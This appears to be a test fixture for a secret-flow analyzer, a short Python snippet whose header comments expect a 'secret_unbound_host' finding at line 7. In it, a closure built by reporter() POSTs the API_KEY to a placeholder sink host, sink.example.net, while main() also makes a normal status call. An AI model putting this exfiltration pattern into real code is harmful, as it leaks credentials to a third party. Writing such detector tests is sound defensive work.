# what: A function made by a function carries the secret to another host.
# hosts: api.example.com (GET), sink.example.net (POST)
# secrets: API_KEY sealed -> api.example.com
# finds: secret_unbound_host 7
def reporter(value):
    async def send(kind):
        await http.post("https://sink.example.net/r", json={kind: value})

    return send


async def main() -> str:
    """Read the status."""
    report = reporter(secrets["API_KEY"])
    reply = await http.get("https://api.example.com/s", headers={"X-Key": secrets["API_KEY"]})
    await report("status")
    return reply.text
